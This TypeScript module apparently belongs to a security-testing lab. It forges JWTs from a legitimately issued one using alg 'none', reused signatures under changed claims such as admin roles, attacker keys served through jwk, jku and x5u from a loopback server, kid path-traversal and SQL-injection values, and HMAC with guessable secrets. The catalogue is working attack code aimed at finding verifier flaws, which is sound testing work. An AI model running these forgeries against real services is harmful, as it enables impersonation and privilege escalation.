import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { timeIsUp } from '../attempts.ts';
import type { Attacker } from '../lab.ts';
import { NotRun } from '../not-run.ts';
import { tokenOwner } from '../tokens.ts';

/** A token of one's own taken apart, to be made into somebody else's. */
interface Material {
  readonly header: Readonly<Record<string, unknown>>;
  readonly claims: Readonly<Record<string, unknown>>;
  readonly signature: string;
  readonly key: KeyObject;
  readonly jwk: object;
  /** A key set of the attacker's, on loopback. */
  readonly lure: string;
}

interface Forgery {
  readonly what: string;
  readonly make: (material: Material) => string;
}

const SOMEBODY = { sub: 'lab-somebody-else' };
const HOUR = 3600;

const FORGERIES: readonly Forgery[] = [
  ...['none', 'None', 'NONE'].map((alg) => ({
    what: `alg ${alg}`,
    make: ({ header, claims }: Material) => `${head({ ...header, alg })}.${body(claims, SOMEBODY)}.`,
  })),
  { what: 'no alg', make: ({ header, claims }) => `${head({ ...header, alg: undefined })}.${body(claims, SOMEBODY)}.` },
  // The issuer's signature under other claims.
  ...[
    { what: 'another subject', change: SOMEBODY },
    { what: 'a later end', change: { exp: Math.floor(Date.now() / 1000) + 24 * HOUR } },
    { what: 'another audience', change: { aud: 'lab-other-audience' } },
    { what: 'another issuer', change: { iss: 'https://attacker.example' } },
    { what: 'more roles', change: { roles: ['admin'], scope: 'admin' } },
  ].map(({ what, change }) => ({
    what,
    make: ({ header, claims, signature }: Material) => `${head(header)}.${body(claims, change)}.${signature}`,
  })),
  ...['dpop+jwt', 'logout+jwt', 'at+jwt'].map((typ) => ({
    what: `typ ${typ}`,
    make: ({ header, claims, signature }: Material) => `${head({ ...header, typ })}.${body(claims, {})}.${signature}`,
  })),
  {
    what: 'an unencoded payload',
    make: ({ header, claims, signature }) =>
      `${head({ ...header, b64: false, crit: ['b64'] })}.${body(claims, SOMEBODY)}.${signature}`,
  },
  { what: 'an own key under the issuer’s name', make: (material) => signed(material, {}) },
  { what: 'an own key in jwk', make: (material) => signed(material, { jwk: material.jwk }) },
  { what: 'an own key behind jku', make: (material) => signed(material, { jku: material.lure, kid: 'lab' }) },
  { what: 'an own key behind x5u', make: (material) => signed(material, { x5u: material.lure, kid: 'lab' }) },
  ...['/dev/null', '../../../../dev/null', "' UNION SELECT '' --", '', 'k'.repeat(4000)].map((kid) => ({
    what: `kid ${kid.slice(0, 20)}`,
    make: (material: Material) => hmac(material, '', { kid }),
  })),
  ...['', 'secret', 'password', 'your-256-bit-secret', 'changeme', 'jwt-secret', '\0'].map((secret) => ({
    what: `the secret ${JSON.stringify(secret)}`,
    make: (material: Material) => hmac(material, secret, {}),
  })),
  { what: 'a public key as secret', make: (material) => hmac(material, JSON.stringify(material.jwk), {}) },
];

/** Tokens that nobody issued, made out of one that somebody did. */
export const forgedTokens: Attacker = {
  name: 'jwt-forged',
  group: 'tokens',
  needsLogin: true,
  title: 'forged and confused tokens',
  how: 'A token of one’s own made into somebody else’s: alg none and HMAC by guessable secrets, own keys by kid, jwk, jku and x5u, other claims and types under the old signature; shown from one’s own open door.',
  steps: [
    'a token of one’s own, and the ways in which verifiers of tokens go wrong',
    'a signer of tokens, and a key set at an address of one’s own',
  ],
  possible: 'A token that nobody issued is taken',
  async run(lab, tally) {
    const found = await tokenOwner(lab, tally);
    if (found === null) return;
    const attacker = found.client;
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'lab', alg: 'ES256', use: 'sig' };
    const lure = await startLure(jwk);
    try {
      const material = { ...takeApart(lab.token), key: privateKey, jwk, lure: lure.url };
      const passed: string[] = [];
      const unfit = lab.unfitTokens.map(({ what, token }) => ({ what: `a token that is ${what}`, make: () => token }));
      const list: readonly Forgery[] = [...FORGERIES, ...unfit];
      const stop = tally.meter.start();
      for (const [index, { what, make }] of list.entries()) {
        if (timeIsUp(lab, tally, list.length - index)) break;
        const token = make(material);
        // A change to what it says already is none.
        if (token === lab.token) continue;
        const kind = await found.show(attacker, token);
        tally.add(kind);
        if (kind.by === 'backend') passed.push(what);
      }
      tally.spent(stop());
      if (passed.length > 0) tally.note(`taken with ${passed.join(', ')}`);
      if (lure.asked() > 0) tally.note('a key set that a token named was asked for');
    } finally {
      lure.close();
    }
  },
};

function takeApart(token: string): Pick<Material, 'header' | 'claims' | 'signature'> {
  const [header = '', claims = '', signature = ''] = token.split('.');
  try {
    return { header: read(header), claims: read(claims), signature };
  } catch {
    throw new NotRun('the token that was given is no signed one: there is nothing to forge it from');
  }
}

const read = (part: string): Readonly<Record<string, unknown>> =>
  JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));

const head = (header: object): string => Buffer.from(JSON.stringify(header)).toString('base64url');
const body = (claims: object, change: object): string => head({ ...claims, ...change });

function signed({ header, claims, key }: Material, more: object): string {
  const text = `${head({ ...header, alg: 'ES256', ...more })}.${body(claims, SOMEBODY)}`;
  return `${text}.${sign('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}

function hmac({ header, claims }: Material, secret: string, more: object): string {
  const text = `${head({ ...header, alg: 'HS256', ...more })}.${body(claims, SOMEBODY)}`;
  return `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`;
}

/** Whoever fetches what a token names comes here. */
async function startLure(jwk: object): Promise<{ url: string; asked(): number; close(): void }> {
  let asked = 0;
  const server = createServer((_request, response) => {
    asked++;
    response.end(JSON.stringify({ keys: [jwk] }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/keys`,
    asked: () => asked,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}
